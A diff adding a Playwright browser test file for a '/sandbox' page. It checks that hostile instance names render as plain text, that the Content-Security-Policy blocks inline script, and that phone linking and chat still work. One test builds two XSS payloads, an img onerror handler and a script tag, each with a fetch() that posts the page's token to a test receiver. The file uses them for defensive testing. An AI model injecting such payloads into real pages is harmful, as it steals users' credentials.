@@ -1,0 +1,251 @@
+"""The /sandbox page in a real browser: Debian's Chromium, driven by Playwright.
+
+An instance's name is set by whoever holds that one instance token (Z-API ``update-name``), and
+the page shows it to the partner, whose token sits in the page. These tests rename instances to
+markup that would run script, open the page as the partner and check the names stay text, that
+nothing ran or left for another origin, and that the page still links phones and chats.
+
+Chromium is the system's (``apt-get install chromium``); Playwright's own browser downloads are
+never used. Without it the tests skip, except in CI or with FLEETGATE_TEST_REQUIRE_POSTGRES=1,
+where they fail.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import secrets
+from collections.abc import AsyncIterator, Awaitable, Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import httpx
+import pytest
+from playwright.async_api import Browser, ConsoleMessage, Dialog, Page, Request, async_playwright
+
+from fleetgate.api.sandbox import CONTENT_SECURITY_POLICY
+from tests.conftest import Instance, MakeInstance, MakePartner, wait_for_state
+from tests.receiver import Receiver, running_receiver
+from tests.support import LiveServer, postgres_required
+
+CHROMIUM = Path("/usr/bin/chromium")
+WAIT_MS = 15_000
+
+
+def _chromium_or_skip() -> None:
+    if CHROMIUM.exists():
+        return
+    reason = f"{CHROMIUM} is missing: apt-get install chromium (.ci/run does)"
+    if os.environ.get("CI") or postgres_required():
+        pytest.fail(f"browser tests are required here: {reason}")
+    pytest.skip(f"browser tests skipped: {reason}")
+
+
+@pytest.fixture(scope="module")
+async def browser() -> AsyncIterator[Browser]:
+    _chromium_or_skip()
+    async with async_playwright() as pw:
+        # --no-sandbox: CI runs as root, where Chromium's own sandbox cannot start.
+        launched = await pw.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
+        try:
+            yield launched
+        finally:
+            await launched.close()
+
+
+@pytest.fixture
+def receiver() -> AsyncIterator[Receiver]:
+    """Where a hostile name would send what it stole (nothing may arrive)."""
+    with running_receiver() as r:
+        yield r
+
+
+@dataclass
+class Watched:
+    """A page and everything it did that a test may want to see."""
+
+    page: Page
+    origin: str
+    console_errors: list[str] = field(default_factory=list)
+    dialogs: list[str] = field(default_factory=list)
+    foreign_requests: list[str] = field(default_factory=list)
+
+    def on_console(self, message: ConsoleMessage) -> None:
+        if message.type == "error":
+            self.console_errors.append(message.text)
+
+    async def on_dialog(self, dialog: Dialog) -> None:
+        self.dialogs.append(dialog.message)
+        await dialog.dismiss()
+
+    def on_request(self, request: Request) -> None:
+        url = request.url
+        if not (url.startswith(self.origin + "/") or url.startswith("data:")):
+            self.foreign_requests.append(url)
+
+
+OpenPage = Callable[[], Awaitable[Watched]]
+
+
+@pytest.fixture
+async def open_sandbox(browser: Browser, server: LiveServer) -> AsyncIterator[OpenPage]:
+    """Factory: a fresh browser context on /sandbox, watched for errors, dialogs and requests."""
+    contexts = []
+
+    async def open_page() -> Watched:
+        context = await browser.new_context()
+        contexts.append(context)
+        page = await context.new_page()
+        watched = Watched(page, server.url)
+        page.on("console", watched.on_console)
+        page.on("pageerror", lambda exc: watched.console_errors.append(str(exc)))
+        page.on("dialog", watched.on_dialog)
+        page.on("request", watched.on_request)
+        response = await page.goto(server.url + "/sandbox")
+        assert response is not None and response.status == 200
+        headers = await response.all_headers()
+        assert headers["content-security-policy"] == CONTENT_SECURITY_POLICY
+        assert headers["x-frame-options"] == "DENY"
+        assert headers["referrer-policy"] == "no-referrer"
+        assert headers["x-content-type-options"] == "nosniff"
+        return watched
+
+    yield open_page
+    for context in contexts:
+        await context.close()
+
+
+def _phone() -> str:
+    return "7900" + "".join(secrets.choice("0123456789") for _ in range(7))
+
+
+async def _rename(client: httpx.AsyncClient, instance: Instance, name: str) -> None:
+    """Rename as the holder of the instance token alone would (Z-API update-name)."""
+    r = await client.put(
+        f"/instances/{instance.id}/token/{instance.token}/update-name", json={"value": name}
+    )
+    assert r.status_code == 200, r.text
+
+
+async def _show_instances(watched: Watched, partner_token: str, count: int) -> None:
+    page = watched.page
+    await page.fill("#token", partner_token)
+    await page.click("#load")
+    await page.locator("#instances button").nth(count - 1).wait_for(timeout=WAIT_MS)
+
+
+async def test_hostile_instance_names_show_as_text_and_run_nothing(
+    client: httpx.AsyncClient,
+    make_partner: MakePartner,
+    make_instance: MakeInstance,
+    open_sandbox: OpenPage,
+    receiver: Receiver,
+) -> None:
+    partner_token = await make_partner()
+    steal = "fetch('{hook}',{{method:'POST',body:document.getElementById('token').value}})".format(
+        hook=receiver.hook("stolen")
+    )
+    names = [
+        f'<img src=x onerror="window.__pwned=1;{steal}">',
+        f"<script>window.__pwned=2;{steal}</script>",
+    ]
+    for name in names:
+        await _rename(client, await make_instance(partner_token), name)
+
+    watched = await open_sandbox()
+    await _show_instances(watched, partner_token, len(names))
+    page = watched.page
+
+    cells = await page.locator("#instances td:nth-child(2)").all_text_contents()
+    assert sorted(cells) == sorted(names)
+    # The markup was never parsed: no element came of it, no handler, no script ran.
+    assert await page.locator("#instances img, #instances script").count() == 0
+    assert await page.evaluate("window.__pwned") is None
+    assert watched.dialogs == []
+    assert watched.console_errors == []
+    assert watched.foreign_requests == []
+    assert receiver.of("stolen", ok_only=False) == []
+
+
+async def test_the_policy_blocks_inline_script_the_page_did_not_ship(
+    open_sandbox: OpenPage,
+) -> None:
+    """The second wall: even markup that did reach the page could not run inline code."""
+    watched = await open_sandbox()
+    blocked = await watched.page.evaluate(
+        """() => new Promise((resolve) => {
+            document.addEventListener("securitypolicyviolation",
+                (e) => resolve(e.violatedDirective), { once: true });
+            const s = document.createElement("script");
+            s.textContent = "window.__inline = 1";
+            document.body.append(s);
+        })"""
+    )
+    assert blocked.startswith("script-src")
+    assert await watched.page.evaluate("window.__inline") is None
+
+
+async def test_the_page_links_a_phone_and_chats_both_ways(
+    client: httpx.AsyncClient,
+    make_partner: MakePartner,
+    make_instance: MakeInstance,
+    open_sandbox: OpenPage,
+) -> None:
+    partner_token = await make_partner()
+    instance = await make_instance(partner_token)
+    await wait_for_state(client, instance, "notAuthorized")
+    watched = await open_sandbox()
+    page = watched.page
+    await _show_instances(watched, partner_token, 1)
+
+    # Pick the instance: its QR appears; the phone scans it and the instance is authorized.
+    await page.click("#instances button")
+    await page.locator("#qr img").wait_for(timeout=WAIT_MS)
+    assert (await page.locator("#qr img").get_attribute("src") or "").startswith("data:image/png")
+    own = _phone()
+    await page.fill("#linkPhone", own)
+    await page.click("#scan")
+    await wait_for_state(client, instance, "authorized")
+    await page.click("#load")
+    state = page.locator("#instances td:nth-child(3)")
+    await page.wait_for_function(
+        "() => document.querySelector('#instances td:nth-child(3)')?.textContent === 'authorized'",
+        timeout=WAIT_MS,
+    )
+    assert await state.text_content() == "authorized"
+    assert await page.input_value("#toPhone") == own
+
+    # A contact phone writes to the instance ...
+    contact = _phone()
+    await page.fill("#fromPhone", contact)
+    await page.fill("#text", "hello from the page <b>")
+    await page.click("#send")
+    await page.wait_for_function(
+        "() => document.querySelector('#text').value === ''", timeout=WAIT_MS
+    )
+    incoming = await _poll_json(client, instance.url("lastIncomingMessages"), bool)
+    assert incoming[0]["textMessage"] == "hello from the page <b>"
+    # ... and the instance's answer shows in the contact's inbox on the page, as text.
+    r = await client.post(
+        instance.url("sendMessage"), json={"chatId": f"{contact}@c.us", "message": "<i>hi</i>"}
+    )
+    assert r.status_code == 200, r.text
+    await page.locator("#inbox div", has_text="<i>hi</i>").wait_for(timeout=WAIT_MS)
+    assert await page.locator("#inbox i").count() == 0
+    assert watched.console_errors == []
+    assert watched.foreign_requests == []
+
+
+async def _poll_json(
+    client: httpx.AsyncClient, url: str, ready: Callable[[list[dict[str, str]]], bool]
+) -> list[dict[str, str]]:
+    """GET ``url`` until its JSON list is ``ready`` (bounded)."""
+    body: list[dict[str, str]] = []
+    for _ in range(300):
+        r = await client.get(url)
+        assert r.status_code == 200, r.text
+        body = r.json()
+        if ready(body):
+            return body
+        await asyncio.sleep(0.05)
+    raise AssertionError(f"{url} never became ready; last {body!r}")
